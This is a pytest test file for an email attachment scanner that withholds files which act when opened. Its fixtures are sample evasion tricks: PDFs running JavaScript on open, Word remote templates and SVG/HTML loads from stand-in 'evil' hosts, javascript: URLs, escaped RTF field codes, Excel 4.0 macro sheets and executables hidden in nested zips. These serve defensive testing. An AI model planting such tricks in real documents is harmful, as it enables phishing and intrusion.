"""Forms of "acts when opened" that inert.py let through (review R2 items 1, 2, 5; H36).

Each test is a probe written before the fix and failed on the old code (its first result is
in the H36 notes). The ordinary files at the end guard against the new rules refusing what
departments really send.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from email.message import EmailMessage

import pytest

from mailflow.adapters import unpack
from mailflow.adapters.inert import active_content

MZ = b"MZ\x90\x00" + b"\x00" * 200
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def _pdf(*objects: bytes) -> bytes:
    out = b"%PDF-1.7\n"
    for n, o in enumerate(objects, 1):
        out += f"{n} 0 obj\n".encode() + o + b"\nendobj\n"
    return out + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


_JS = b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"


# --- zip members are judged by their bytes (R2 #1) ------------------------------------------


def test_a_program_inside_a_zip_inside_a_zip_is_found() -> None:
    assert active_content("r.zip", _zip({"report.zip": _zip({"payload.exe": MZ})})) == "programs"


def test_a_zip_member_named_as_a_document_but_holding_a_program_is_found() -> None:
    assert active_content("r.zip", _zip({"report.pdf": MZ})) == "programs"


def test_a_zip_member_whose_name_ends_in_a_dot_or_space_is_judged_by_its_real_extension() -> None:
    assert active_content("r.zip", _zip({"report.exe.": b"hello"})) == "programs"
    assert active_content("r.zip", _zip({"report.lnk .": b"hello"})) == "programs"


def test_a_pdf_with_javascript_inside_a_zip_is_found() -> None:
    assert active_content("r.zip", _zip({"bao-cao.pdf": _pdf(_JS)})) == "scripts"


def test_a_docx_with_a_remote_template_inside_a_zip_is_found() -> None:
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    docx = _zip({"word/document.xml": b"<w:document/>", "word/_rels/settings.xml.rels": rels})
    assert active_content("r.zip", _zip({"bao-cao.docx": docx})) == "links"


def test_an_archive_no_reader_opens_inside_a_zip_is_unchecked() -> None:
    seven = b"7z\xbc\xaf\x27\x1c" + b"\x00" * 50
    assert active_content("r.zip", _zip({"a.dat": seven})) == "unchecked"


def test_an_html_page_with_a_script_inside_a_zip_is_found() -> None:
    page = b"<html><script>alert(1)</script></html>"
    assert active_content("r.zip", _zip({"r.xhtml": page})) == "scripts"


def test_zips_nested_past_the_depth_limit_are_unchecked_not_attached_unexamined() -> None:
    payload = _zip({"note.txt": b"hello"})
    for name in ("e.zip", "d.zip", "c.zip", "b.zip"):
        payload = _zip({name: payload})
    assert active_content("a.zip", payload) == "unchecked"


def test_nested_members_share_one_member_budget() -> None:
    inner = _zip({f"m{i}.txt": b"x" for i in range(3_000)})
    assert active_content("r.zip", _zip({"a.zip": inner, "b.zip": inner})) == "unchecked"


def test_a_zip_intake_quarantined_as_too_deep_is_not_mailed_on_unexamined() -> None:
    payload = _zip({"setup.exe": MZ})
    for name in ("e.zip", "d.zip", "c.zip", "b.zip"):
        payload = _zip({name: payload})
    m = EmailMessage()
    m["From"], m["Subject"] = "a@b.vn", "bc"
    m.set_content("xem file")
    m.add_attachment(payload, maintype="application", subtype="zip", filename="a.zip")
    deep = [it for it in unpack.extract(m, defer=True) if it.data and it.name.endswith(".zip")]
    assert deep, "intake keeps the too-deep zip's bytes"
    assert all(active_content(it.name, it.data) != "" for it in deep)


# --- RTF as Word sees it (R2 #2) -------------------------------------------------------------

_OBJ = rb"{\object\objemb{\*\objclass Equation.3}{\*\objdata 0105000002000000}}"


def test_rtf_whose_header_is_not_rtf1_is_still_read_as_rtf() -> None:
    assert active_content("bao-cao.doc", rb"{\rtx " + _OBJ + b"}") == "objects"


def test_an_rtf_object_control_word_with_a_numeric_parameter_is_found() -> None:
    assert active_content("r.rtf", rb"{\rtf1 {\object1\objemb1{\*\objdata1 0105}}}") == "objects"


def test_a_doc_intake_quarantined_as_not_word_binary_but_rtf_with_an_object_is_withheld() -> None:
    rtf = (
        rb"{\rtx1\ansi B\'e1o c\'e1o\par{\object\objautlink\rsltpict{\*\objclass Word.Document.8}"
        rb"{\*\objdata 0105000002000000}{\result {\pict}}}}"
    )
    m = EmailMessage()
    m["From"], m["Subject"] = "a@b.vn", "bc"
    m.set_content("gửi báo cáo")
    m.add_attachment(rtf, maintype="application", subtype="msword", filename="bao-cao.doc")
    items = [it for it in unpack.extract(m, defer=True) if it.data]
    assert items
    assert all(active_content(it.name, it.data) == "objects" for it in items)


# --- PDF (R2 #5) -------------------------------------------------------------------------------


def test_a_pdf_that_opens_an_address_when_opened_is_links() -> None:
    inline = _pdf(b"<< /Type /Catalog /OpenAction << /S /URI /URI (http://evil/) >> >>")
    assert active_content("a.pdf", inline) == "links"
    by_ref = _pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>", b"<< /S /URI /URI (http://e/) >>")
    assert active_content("a.pdf", by_ref) == "links"


def test_a_pdf_page_open_action_with_an_address_is_links() -> None:
    pdf = _pdf(b"<< /Type /Page /AA << /O 2 0 R >> >>", b"<< /S /URI /URI (http://e/) >>")
    assert active_content("a.pdf", pdf) == "links"


def test_a_pdf_object_stream_that_mentions_image_is_still_read() -> None:
    comp = zlib.compress(b"1 0 " + _JS)
    pdf = _pdf(
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /X /Image /Subtype /Image >>\n"
        b"stream\n" + comp + b"\nendstream"
    )
    assert active_content("a.pdf", pdf) == "scripts"


def test_a_pdf_object_stream_under_ascii_filters_and_flate_is_read() -> None:
    hexed = zlib.compress(b"1 0 " + _JS).hex().encode() + b">"
    pdf = _pdf(
        b"<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n"
        + hexed
        + b"\nendstream"
    )
    assert active_content("a.pdf", pdf) == "scripts"
    import base64

    a85 = base64.a85encode(zlib.compress(b"1 0 " + _JS), adobe=True)[2:]
    pdf = _pdf(
        b"<< /Type /ObjStm /N 1 /First 4 /Filter [/A85 /Fl] >>\nstream\n" + a85 + b"\nendstream"
    )
    assert active_content("a.pdf", pdf) == "scripts"


def test_a_pdf_object_stream_under_a_filter_not_read_here_is_unchecked() -> None:
    pdf = _pdf(
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\n\x80\x0b\x60\nendstream"
    )
    assert active_content("a.pdf", pdf) == "unchecked"


# --- markup (R2 #5) ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "page",
    [
        b'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://e/x.png"/></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><use href="\\\\evil\\share\\x.svg#a"/></svg>',
        b'<svg><filter><feImage href="//evil/x.png"/></filter></svg>',
        b'<html><img srcset="a.png 1x, http://evil/x.png 2x"></html>',
        b'<html><meta http-equiv="refresh" content="0;url=http://evil/"></html>',
    ],
    ids=["svg-image-xlink", "svg-use-unc", "svg-feimage", "html-srcset", "html-meta-refresh"],
)
def test_markup_that_loads_an_address_when_shown_is_links(page: bytes) -> None:
    name = "a.svg" if page.startswith(b"<svg") else "a.html"
    assert active_content(name, page) == "links"


_FLAT = (
    b'<?xml version="1.0" standalone="yes"?><?mso-application progid="Word.Document"?>'
    b'<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
)


def test_a_flat_opc_word_file_with_a_remote_template_is_links() -> None:
    flat = _FLAT + (
        b'<pkg:part pkg:name="/word/_rels/settings.xml.rels"><pkg:xmlData><Relationships xmlns='
        b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
        b"</pkg:xmlData></pkg:part></pkg:package>"
    )
    assert active_content("report.xml", flat) == "links"


def test_a_flat_opc_word_file_carrying_vba_is_macros() -> None:
    flat = _FLAT + (
        b'<pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.'
        b'vbaProject"><pkg:binaryData>0M8R4KGx</pkg:binaryData></pkg:part></pkg:package>'
    )
    assert active_content("report.xml", flat) == "macros"


def test_a_word_2003_xml_file_carrying_editdata_mso_is_macros() -> None:
    xml = (
        b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w='
        b'"http://schemas.microsoft.com/office/word/2003/wordml"><w:binData w:name="editdata.mso">'
        b"QWN0aXZlTWltZQ==</w:binData></w:wordDocument>"
    )
    assert active_content("report.xml", xml) == "macros"


def test_a_fetching_field_under_another_prefix_for_wordprocessingml_is_links() -> None:
    doc = (
        f'<?xml version="1.0"?><x:document xmlns:x="{W}"><x:body><x:p><x:r><x:instrText> '
        'INCLUDEPICTURE "http://evil/x.png" \\d </x:instrText></x:r></x:p></x:body></x:document>'
    ).encode()
    assert active_content("r.docx", _zip({"word/document.xml": doc})) == "links"


# --- Excel 4.0 macros and runnable names (R2 #5) ---------------------------------------------


def test_an_excel_package_with_a_macro_sheet_is_macros() -> None:
    ct = (
        b'<Types><Override PartName="/xl/macrosheets/sheet1.xml" '
        b'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
    )
    xlsx = _zip({"[Content_Types].xml": ct, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    assert active_content("so-lieu.xlsx", xlsx) == "macros"


def _xls(sheet_type: int) -> bytes:
    """An OLE .xls whose Workbook globals name one sheet of ``sheet_type``."""
    name = b"Macro1"
    bound = struct.pack("<IBB", 0, 0, sheet_type) + bytes([len(name), 0]) + name
    stream = (
        struct.pack("<HH", 0x0809, 16)
        + b"\x00\x06\x05\x00"
        + b"\x00" * 12
        + struct.pack("<HH", 0x0085, len(bound))
        + bound
        + struct.pack("<HH", 0x000A, 0)
    )
    return _ole({"Workbook": stream})


def _ole(streams: dict[str, bytes]) -> bytes:
    """A minimal compound file (version 3, 512-byte sectors) holding ``streams``, each
    padded to 4096 bytes so it lives in regular sectors."""
    sec = 512
    datas = [d + b"\x00" * (4096 - len(d)) for d in streams.values()]
    nsec_data = sum(len(d) // sec for d in datas)
    n_dir = 1
    n_fat = 1
    fat = []
    pos = 0
    starts = []
    for d in datas:
        n = len(d) // sec
        starts.append(pos)
        fat += [pos + i + 1 for i in range(n - 1)] + [0xFFFFFFFE]
        pos += n
    dir_sec = pos
    fat += [0xFFFFFFFE]
    fat_sec = pos + 1
    fat += [0xFFFFFFFD]
    fat += [0xFFFFFFFF] * (128 - len(fat))
    assert nsec_data + n_dir + n_fat <= 128

    def entry(name: str, typ: int, child: int, start: int, size: int, left: int = -1) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        e = raw + b"\x00" * (64 - len(raw)) + struct.pack("<HBB", len(raw), typ, 1)
        e += struct.pack("<iii", left, -1, child) + b"\x00" * 16 + b"\x00" * 4 + b"\x00" * 16
        e += struct.pack("<III", start, size, 0)
        return e

    names = list(streams)
    entries = [entry("Root Entry", 5, 1, 0xFFFFFFFE, 0)]
    for i, (n, d) in enumerate(zip(names, datas, strict=True)):
        entries.append(
            entry(n, 2, -1, starts[i], len(d), left=i + 2 if i + 2 <= len(names) else -1)
        )
    while len(entries) < 4:
        entries.append(
            b"\x00" * 64
            + struct.pack("<HBB", 0, 0, 0)
            + struct.pack("<iii", -1, -1, -1)
            + b"\x00" * 48
        )
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, n_fat, dir_sec, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<109I", fat_sec, *([0xFFFFFFFF] * 108))
    )
    body = b"".join(datas) + b"".join(entries) + struct.pack("<128I", *fat)
    return header + body


def test_an_xls_with_an_excel_4_macro_sheet_is_macros() -> None:
    assert active_content("so-lieu.xls", _xls(1)) == "macros"


def test_an_xls_with_only_worksheets_is_not_withheld() -> None:
    assert active_content("so-lieu.xls", _xls(0)) == ""


@pytest.mark.parametrize(
    "ext",
    [
        *("rdp", "msc", "diagcab", "appinstaller", "sct", "shs", "shb", "accdb", "accde"),
        *("mdb", "mde", "theme", "themepack", "deskthemepack", "jnlp", "xlsb", "py", "pyw"),
        *("iqy", "slk", "odc", "udl", "msu", "ppkg", "xlm", "xla", "wll"),
    ],
)
def test_a_file_kind_windows_acts_on_when_opened_is_a_program(ext: str) -> None:
    assert active_content(f"x.{ext}", b"hello") == "programs"


# --- ordinary files stay attached ----------------------------------------------------------


def test_a_pdf_that_opens_at_a_page_and_has_web_links_is_not_withheld() -> None:
    pdf = _pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://gov.vn/) >> >>",
    )
    assert active_content("a.pdf", pdf) == ""


def test_an_html_page_with_clicked_links_and_local_pictures_is_not_withheld() -> None:
    page = b'<html><a href="https://gov.vn/">x</a><img src="a.png" srcset="a.png 1x, b.png 2x">'
    assert active_content("a.html", page) == ""


def test_a_zip_of_ordinary_documents_and_pictures_is_not_withheld() -> None:
    import docx

    d = docx.Document()
    d.add_paragraph("Báo cáo")
    out = io.BytesIO()
    d.save(out)
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
    members = {"bao-cao.docx": out.getvalue(), "anh.png": png, "ghi-chu.txt": b"Quy II"}
    assert active_content("ho-so.zip", _zip(members)) == ""


def test_pictures_in_a_package_are_not_charged_to_the_byte_budget() -> None:
    """A report whose photos inflate past the bound is an ordinary file: a member named
    and starting as a picture is shown by a viewer, so it is not read whole."""
    photo = b"\x89PNG\r\n\x1a\n" + b"\x00" * (100 * 1024 * 1024)
    assert active_content("bao-cao.zip", _zip({"anh.png": photo, "ghi-chu.txt": b"x"})) == ""


@pytest.mark.parametrize(
    "page",
    [
        b'<html><body><img src="&#104;ttp://127.0.0.1:9/p.png"></body></html>',
        b'<html><body><img src="&#x68;ttp://127.0.0.1:9/p.png"></body></html>',
        b'<html><body><img src=" http://127.0.0.1:9/p.png"></body></html>',
        b'<html><head><base href="http://127.0.0.1:9/"></head>'
        b'<body><img src="p.png"></body></html>',
    ],
    ids=["decimal-reference", "hex-reference", "space-padded", "base-href"],
)
def test_markup_that_loads_an_address_written_in_escapes_or_a_base_is_links(page: bytes) -> None:
    """A browser reads character references and leading blanks in an address, and a <base>
    makes every relative one remote (review 3, item 7)."""
    assert active_content("a.html", page) == "links"


def test_a_script_url_with_a_tab_in_its_scheme_is_scripts() -> None:
    page = b'<html><body><a href="java&#9;script:alert(1)">x</a></body></html>'
    assert active_content("a.html", page) == "scripts"


def test_an_xml_file_with_a_remote_stylesheet_is_links() -> None:
    data = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/s.xsl"?><r/>'
    assert active_content("report.xml", data) == "links"


def test_an_ordinary_page_with_references_and_a_local_base_is_not_withheld() -> None:
    page = (
        b'<html><head><base href="#top"></head><body><p>K&#7871;t qu&#7843; '
        b'&amp; ti&#7871;n &#273;&#7897;</p><img src="cid:logo"></body></html>'
    )
    assert active_content("a.html", page) == ""


@pytest.mark.parametrize(
    "rtf",
    [
        b'{\\rtf1{\\field{\\*\\fldinst {\\\'49NCLUDEPICTURE "http://127.0.0.1:9/a.png" \\\\d}}'
        b"{\\fldrslt x}}}",
        b'{\\rtf1{\\field{\\*\\fldinst INCL{}UDE{\\b0 PICTURE} "http://127.0.0.1:9/a.png"}'
        b"{\\fldrslt x}}}",
        b"{\\rtf1{\\field{\\*\\fldinst "
        + b" " * 600
        + b'INCLUDEPICTURE "http://127.0.0.1:9/a.png"}'
        b"{\\fldrslt x}}}",
    ],
    ids=["hex-escape", "split-by-groups", "past-400-bytes"],
)
def test_an_rtf_field_code_is_read_as_word_reads_it(rtf: bytes) -> None:
    """Word decodes \\'hh escapes, joins the groups of a field's code and reads all of it
    (review 3, item 7)."""
    assert active_content("r.rtf", rtf) == "links"


def test_an_rtf_whose_text_after_an_ordinary_field_says_link_is_not_withheld() -> None:
    rtf = b"{\\rtf1{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} Link to the report; include data.}"
    assert active_content("r.rtf", rtf) == ""
